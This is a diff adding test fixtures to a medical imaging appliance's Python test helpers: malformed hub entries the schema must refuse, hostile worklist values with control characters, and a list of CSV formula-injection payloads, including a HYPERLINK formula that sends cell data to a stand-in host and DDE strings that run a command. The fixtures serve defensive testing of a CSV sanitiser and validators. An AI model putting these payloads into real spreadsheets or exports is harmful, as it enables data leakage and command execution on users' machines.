@@ -251,3 +251,89 @@ def _wait_for_workers(served, timeout: float) -> dict[str, int]:
         if not busy or time.monotonic() > deadline or served.proc.poll() is not None:
             return {**images, "failed": jobs.get("failed", 0), "unfinished": busy}
         time.sleep(0.5)
+
+
+# -- poisoned hub entries (issue 25): what one hostile or buggy box may post ------------
+# (name, kind, what is changed in a good entry's data, the field the hub must name).
+# Each once reached the hub's store and took down FHIR search, the pusher or the
+# dashboard for every site; the hub's door (appliance/hub/schemas.py) refuses them now.
+POISONED_ENTRIES: list[tuple[str, str, dict, str]] = [
+    ("null threshold", "result", {"probability": 0.9, "score": 90, "threshold": None},
+     "threshold"),
+    ("image as text", "result", {"image": "x"}, "image"),
+    ("probability as text", "result", {"probability": "0.9", "score": 90, "threshold": 0.5},
+     "probability"),
+    ("probability above 1", "result", {"probability": 1.5, "score": 90, "threshold": 0.5},
+     "probability"),
+    ("score above 100", "result", {"probability": 0.9, "score": 900, "threshold": 0.5}, "score"),
+    ("unknown route", "result", {"route": "=HYPERLINK(1)"}, "route"),
+    ("not a date", "result", {"created_at": "XXYY"}, "created_at"),
+    ("NUL in a name", "result", {"image": {"sha256": "ab" * 32, "patient_name": "a\x00b"}},
+     "image.patient_name"),
+    ("lone surrogate", "result", {"reason": "\ud800"}, "reason"),
+    ("monitor summary of strings", "monitor",
+     {"warnings": ["boom"], "calibration": {"cxr": "x"}}, "calibration.cxr"),
+    ("monitor warning as text", "monitor", {"warnings": ["boom"]}, "warnings.0"),
+    ("review verdict", "review", {"verdict": "maybe"}, "verdict"),
+    ("outcome grade", "outcome", {"grade": 9}, "grade"),
+]
+
+
+def good_entry_data(kind: str, n: int = 1) -> dict:
+    """Data of one entry of ``kind`` as a box sends it (the poisoned ones start here)."""
+    image = {"sha256": f"{n:064x}"}
+    when = "2026-03-02T10:00:00.000+00:00"
+    if kind == "result":
+        return {
+            "image": {**image, "modality": "CR", "patient_id": f"P{n}"},
+            "route": "chest_xray",
+            "reason": None,
+            "probability": 0.8,
+            "score": 80,
+            "threshold": 0.5,
+            "triage": "urgent",
+            "model": {"name": "cxr-pneumonia", "version": "1.0", "sha256": None},
+            "created_at": when,
+            "local_id": n,
+        }
+    if kind == "review":
+        return {"image": image, "verdict": "agree", "reasons": [], "created_at": when}
+    if kind == "outcome":
+        return {
+            "image": image,
+            "test": "xpert",
+            "result": "positive",
+            "positive": True,
+            "grade": None,
+            "tested_on": "2026-03-01",
+            "created_at": when,
+        }
+    return {
+        "generated_at": when,
+        "models": {"cxr-pneumonia": {"version": "1.0", "threshold": 0.5, "recent": 3}},
+        "refused": 0.1,
+        "calibration": {"cxr-pneumonia": {"version": "1.0", "threshold": 0.5, "source": "bundle"}},
+        "health": {"disk_free_mb": 1000, "temperature_c": None, "oldest_waiting_minutes": 0},
+        "warnings": [{"code": "no_reference", "message": "No reference.", "model": "cxr"}],
+    }
+
+
+# -- CSV formula injection: text a box, a lab register or an admin may choose, which a
+# spreadsheet would run if a CSV wrote it as it is (appliance/wire/csv_safe.py).
+FORMULA_PAYLOADS = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+# -- Modality worklist: values a hostile RIS answers (tests/pacs/test_worklist_hostile.py;
+# appliance/pacs/worklist.py checks each). Flood sizes are in that test.
+WORKLIST_BAD_TIMES = ("XXYY", "2561", "99", "1", "12:3", "0930.xyz", "9" * 40, "", "24")
+WORKLIST_CONTROL_NAMES = (
+    "Banda\x1b\x07\r\n^Amina\x7f\u202e\u0085",  # needs a UTF-8 answer (ISO_IR 192)
+    "Phiri\x1b(B^Jo\x00seph\x0c",
+)
